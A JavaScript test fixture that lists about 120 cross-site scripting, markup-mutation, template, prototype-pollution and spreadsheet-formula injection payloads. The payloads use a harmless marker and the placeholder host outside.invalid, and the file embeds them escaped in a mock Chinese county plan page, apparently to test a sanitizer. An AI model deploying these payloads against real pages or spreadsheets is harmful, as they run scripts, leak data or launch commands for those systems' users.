// 120 texts that would run, ask others or break a file if anything took them for more than text, by what they aim at.
// What runs sets window.__xss, what asks goes to outside.invalid; № stands for the number of the payload.

const run = 'window.__xss=№';
const out = 'https://outside.invalid/№';

const families = {
  'elements that run or ask': [
    `<script>${run}</script>`, `<img src=x onerror=${run}>`, `<svg onload=${run}>`, `<body onload=${run}>`, `<video><source onerror=${run}></video>`, `<audio src=x onerror=${run}>`,
    `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}>`, `<details open ontoggle=${run}>`, `<marquee onstart=${run}>`,
    `<div style=animation-name:x onanimationstart=${run}>`, `<object data="javascript:${run}">`, `<embed src="${out}">`, `<iframe srcdoc="<script>parent.__xss=№</script>"></iframe>`,
    `<iframe src="javascript:parent.__xss=№"></iframe>`, `<script src="${out}"></script>`, `<link rel=stylesheet href="${out}">`, `<link rel=prefetch href="${out}">`, `<img srcset="${out} 1x">`,
    `<video poster="${out}">`, `<table background="${out}">`, `<img src="${out}">`, `<portal src="${out}">`,
  ],
  'documents that are led astray': [
    `<meta http-equiv=refresh content="0;url=${out}">`, `<base href="${out}">`, `<form action="${out}"><button autofocus>提交</button></form>`, `<isindex action=${out}>`, `<frameset onload=${run}>`,
    `<meta http-equiv=Set-Cookie content=x=№>`, `<button formaction="javascript:${run}">报名</button>`, `<plaintext>№`, `<style>@import url(${out})</style>`, `<noembed>№`,
  ],
  'other namespaces': [
    `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${run}"><text y=9>文</text></a></svg>`,
    `<svg><use href="${out}#x"></use></svg>`, `<svg><image href="${out}"></image></svg>`, `<svg><set attributeName=onmouseover to=${run}>`, `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
    `<math href="javascript:${run}">文</math>`, `<math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
    `<?xml-stylesheet href="${out}"?>`, `<x xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></x>`,
  ],
  'markup that changes when it is written again': [
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<template><img src=x onerror=${run}></template>`, `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
    `<listing>&lt;img src=x onerror=${run}&gt;</listing>`, `<xmp><img src=x onerror=${run}></xmp>`, `<select><style></select><img src=x onerror=${run}></style>`,
    `<a href="x\`><img src=x onerror=${run}>">`, `<!--><img src=x onerror=${run}>-->`, `<!--[if IE]><script>${run}</script><![endif]-->`, `<![CDATA[<img src=x onerror=${run}>]]>`, `]]><script>${run}</script>`,
    `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  ],
  'links that run': [
    `javascript:${run}`, `JaVaScRiPt:${run}`, `java\tscript:${run}`, `&#106;avascript:${run}`, `&#x6A&#x61vascript:${run}`, `%6Aavascript:${run}`, `javascript://outside.invalid/%0A${run}`, `\u0001javascript:${run}`,
    `data:text/html,<script>${run}</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==№`, `data:image/svg+xml,<svg onload=${run}>`, `vbscript:MsgBox(№)`,
    `<a href="javascript:${run}">财政</a>`, `<a href=" &#14; javascript:${run}">财政</a>`, `[财政](javascript:${run})`, `![图](${out})`, `[财政]: javascript:${run}`, `<javascript:${run}>`,
  ],
  'styles': [
    `x:expression(${run})`, `background:url(${out})`, `<div style="background:url(${out})">`, `<style>*{background:url(${out})}</style>`, `}*{background:url(${out})}`, `<p style="behavior:url(${out})">`,
  ],
  'attributes that end early': [
    `"><img src=x onerror=${run}>`, `'><img src=x onerror=${run}>`, `\` onmouseover=${run} x=\``, `" autofocus onfocus=${run} x="`, `' autofocus onfocus=${run} x='`, `" style="position:fixed;inset:0" onmouseover="${run}`,
    `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `</style><script>${run}</script>`, `</script><script>${run}</script>`, `</text></svg><script>${run}</script>`, `<img src=x onerror=${run} `,
    `<img src=x onerror=${run}//`, `<<script>${run}//<</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<img/src/onerror=${run}>`, `<IMG SRC=x ONERROR=${run}>`,
  ],
  'signs that are not what they look like': [
    `＜script＞${run}＜/script＞`, `<\u200bscript>${run}</script>`, `\u202e<img src=x onerror=${run}>\u202c`, `<img\u00a0src=x\u3000onerror=${run}>`, `&lt;img src=x onerror=${run}&gt;`, `\\u003cimg src=x onerror=${run}\\u003e`,
    `行\u2028<script>${run}</script>\u2029`,
  ],
  'templates, queries and sheets': [
    `{{constructor.constructor('${run}')()}}`, `{@html '<img src=x onerror=${run}>'}`, `\${${run}}`, `<%= ${run} %>`, `"}}) { __typename } #№`, `","__proto__":{"x":№}}`, `=HYPERLINK("${out}";"附件")`, `=cmd|'/c calc'!A№`, `+WEBSERVICE("${out}")`,
    `-2+3+cmd|' /C calc'!A№`, `@SUM(1+1)*№`, `＝HYPERLINK("${out}")`, `%s%n%x№`, `${'很'.repeat(400)}长№<b>`,
  ],
};

/** The payloads: {n, family, text}, numbered from 1. */
export const payloads = Object.entries(families).flatMap(([family, texts]) => texts.map((text) => ({ family, text }))).map((one, i) => ({ n: i + 1, family: one.family, text: one.text.replaceAll('№', String(i + 1)) }));

const kept = (text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');

/**
 * One plan that holds them all, as a page of HTML that prints them: a task for each, whose title has it, and which has it once more where one
 * of its parts is named; the title of the plan, sections, and a table of indicators have some too.
 */
export function planOf(all) {
  const holding = (sign) => all.find(({ text }) => text.includes(sign)).text;
  const parts = [
    (text) => [`2028年底前完成${text}改造12处。`, '县水利局牵头，县财政局配合'],
    (text) => ['2028年底前完成改造12处。', `县${text}水利局牵头，县财政局配合`],
    (text) => ['2028年底前完成改造12处。', `县水利局牵头，县${text}财政局、安吉县配合`],
    (text) => [`建成“${text}”公共服务平台。2028年底前完成改造12处。`, '县水利局牵头，县财政局配合'],
    (text) => [`落实《${text}管理办法》，2028年底前完成改造12处。`, '县水利局牵头，县财政局配合'],
    (text) => [`2029年${text}设施覆盖率达到90%。`, '县水利局牵头，县财政局配合'],
    (text) => [`${text}2029年6月底前${text}完成改造。`, '县水利局牵头，县财政局配合'],
  ];
  const tasks = all.map(({ n, family, text }, i) => {
    const [does, whose] = parts[i % parts.length](text);
    const head = i % 20 === 0 ? `<h2>${'一二三四五六'[i / 20]}、推进${kept(holding(['<svg', '</title>', '{{'][(i / 20) % 3]))}建设</h2>` : '';
    return `${head}<p>${n}. ${kept(family.endsWith('sheets') ? text : `建设${text}设施`)}。${kept(does)}（${kept(whose)}）</p>`;
  });
  const rows = all.slice(-14).map(({ text }, i) => `<tr><td>${i + 1}</td><td>${kept(text)}覆盖率</td><td>%</td><td>${60 + i}</td><td>${70 + i}</td></tr>`);
  const table = `<h2>七、主要指标</h2><table><tr><th>序号</th><th>指标名称</th><th>单位</th><th>2028年</th><th>2029年</th></tr>${rows.join('')}</table>`;
  const title = `苍南县${holding('<img src=x')}山塘防护实施方案`;
  return `<!doctype html><html lang="zh-CN"><meta charset="utf-8"><title>${kept(title)}</title><h1>${kept(title)}</h1>${tasks.join('\n')}${table}</html>`;
}
